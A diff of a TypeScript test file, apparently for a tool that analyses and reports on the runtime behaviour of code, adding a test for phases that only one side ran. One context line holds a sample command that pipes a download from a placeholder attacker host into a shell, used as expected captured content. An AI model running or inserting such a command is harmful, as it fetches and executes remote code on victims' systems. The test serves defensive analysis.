@@ -130,6 +130,11 @@ describe('formatDiff', () => {
     expect(back).not.toMatch(/^\+ /m);
   });
 
+  it('names the phases only one side ran', () => {
+    const diff = { ...diffReports(benignReport, benignReport), uncompared: ['execute', 'idle'] as const };
+    expect(formatDiff({ ...diff, uncompared: [...diff.uncompared] }, { base: 'a', target: 'b' })).toContain('Not compared (only one side ran them): execute, idle');
+  });
+
   it('says so when nothing changed', () => {
     expect(formatDiff(diffReports(benignReport, benignReport), { base: 'a', target: 'b' })).toBe('a → b: 0 added, 0 removed\nNo behavior differences.\n');
   });
@@ -162,6 +167,9 @@ describe('formatReport: the later phases', () => {
     expect(text).toContain('← after 15 min (fast clock)');
     expect(text).toContain('Captured content (1)');
     expect(text).toContain('"curl -fsSL http://c2.attacker.example/x | sh"');
+  });
+});
+
 describe('formatReport: static code and incompleteness', () => {
   const report: Report = {
     ...benignReport,
